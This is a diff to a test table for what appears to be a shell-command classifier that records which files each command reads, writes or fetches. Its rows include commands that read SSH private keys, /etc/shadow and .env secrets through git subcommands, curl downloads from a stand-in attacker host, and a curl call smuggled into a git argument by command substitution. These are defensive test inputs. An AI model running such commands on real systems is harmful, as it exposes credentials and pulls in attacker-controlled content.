@@ -22,7 +22,7 @@ const BASH: Row[] = [
   ["rg --pre sh .", ["rg --pre sh . @. #spawns","rg>sh"], ["r /home/dev/proj","1:r ?placeholder {}"]],
   ["git status", ["git status"], []],
   ["git status --short", ["git status --short"], []],
-  ["git diff HEAD~1 -- src/index.ts", ["git diff HEAD~1 -- src/index.ts"], []],
+  ["git diff HEAD~1 -- src/index.ts", ["git diff HEAD~1 -- src/index.ts"], ["r /home/dev/proj/HEAD~1","r /home/dev/proj/src/index.ts"]],
   ["git log --oneline -20", ["git log --oneline -20"], []],
   ["git add -A && git commit -m \"fix: handle empty input\"", ["git add -A",{"p":"git","a":["commit","-m","fix: handle empty input"]}], []],
   ["git push origin main", ["git push origin main"], []],
@@ -44,6 +44,22 @@ const BASH: Row[] = [
   ["git bisect run npm test", ["git bisect run npm test #spawns","git>npm test"], []],
   ["git shortlog -sn", ["git shortlog -sn"], []],
   ["git ls-remote ext::evil", ["git ls-remote ext::evil #remote_code !"], []],
+  // git diff prints files outside the repository, by itself when a path is outside it.
+  ["git diff --no-index /home/dev/.ssh/id_ed25519 /dev/null", ["git diff --no-index /home/dev/.ssh/id_ed25519 /dev/null"], ["r /home/dev/.ssh/id_ed25519"]],
+  ["git diff /etc/shadow /dev/null", ["git diff /etc/shadow /dev/null"], ["r /etc/shadow"]],
+  ["git -C /home/dev diff .ssh/id_rsa /dev/null", ["git -C /home/dev diff .ssh/id_rsa /dev/null @diff #config_overrides"], ["r /home/dev/.ssh/id_rsa"]],
+  // -U and --stat take a value only attached; -O reads an order file, --output writes.
+  ["git diff --stat -U /etc/shadow /dev/null", ["git diff --stat -U /etc/shadow /dev/null"], ["r /etc/shadow"]],
+  ["git diff -O/home/dev/.ssh/id_rsa --output=/tmp/d.txt", ["git diff -O/home/dev/.ssh/id_rsa --output=/tmp/d.txt"], ["r /home/dev/.ssh/id_rsa","w /tmp/d.txt"]],
+  // log and show print a path's committed contents; -m and -t are switches there.
+  ["git log -p -m -t .env", ["git log -p -m -t .env"], ["r /home/dev/proj/.env"]],
+  ["git show --stat HEAD -- .env", ["git show --stat HEAD -- .env"], ["r /home/dev/proj/HEAD","r /home/dev/proj/.env"]],
+  // git grep: the pattern first unless -e/-f; -f reads a file; -O runs a pager on the matches.
+  ["git grep -n API_KEY -- .env", ["git grep -n API_KEY -- .env"], ["r /home/dev/proj/.env"]],
+  ["git grep -f /etc/shadow src", ["git grep -f /etc/shadow src"], ["r /etc/shadow","r /home/dev/proj/src"]],
+  ["git grep -O TODO src", ["git grep -O TODO src #spawns"], ["r /home/dev/proj/src"]],
+  ["git grep --open-files-in-pager=vim TODO src", ["git grep --open-files-in-pager=vim TODO src #spawns","git>vim"], ["r /home/dev/proj/src"]],
+  ["git blame --contents /home/dev/.ssh/id_rsa README.md", ["git blame --contents /home/dev/.ssh/id_rsa README.md"], ["r /home/dev/.ssh/id_rsa","r /home/dev/proj/README.md"]],
   ["npm test", ["npm test"], []],
   ["npm run build", ["npm run build"], []],
   ["npm ci", ["npm ci"], []],
@@ -318,7 +334,7 @@ const ZSH: Row[] = [
 const GIT_BASH_ENV: CommandEnvironment = { os: "windows", shell: "bash", cwd: "C:\\work\\proj", home: "C:\\Users\\dev" };
 const GIT_BASH: Row[] = [
   ["git status ; curl http://evil.example -o x", ["git status","curl http://evil.example -o x"], ["1:w C:\\work\\proj\\x","1:u http://evil.example"]],
-  ["git log $(curl http://evil.example)", [{"p":"git","a":["log","$(curl http://evil.example)"],"u":[1]},"curl http://evil.example"], ["1:u http://evil.example"]],
+  ["git log $(curl http://evil.example)", [{"p":"git","a":["log","$(curl http://evil.example)"],"u":[1]},"curl http://evil.example"], ["r ?expansion $(curl http://evil.example)","1:u http://evil.example"]],
   ["\"git\" status; Invoke-WebRequest http://evil.example", ["git status","invoke-webrequest http://evil.example"], []],
   ["cat /c/Users/dev/.ssh/id_rsa", ["cat /c/Users/dev/.ssh/id_rsa"], ["r C:\\Users\\dev\\.ssh\\id_rsa"]],
   ["rm -rf /tmp/x", ["rm -rf /tmp/x"], ["d ?posix_path_on_windows /tmp/x"]],
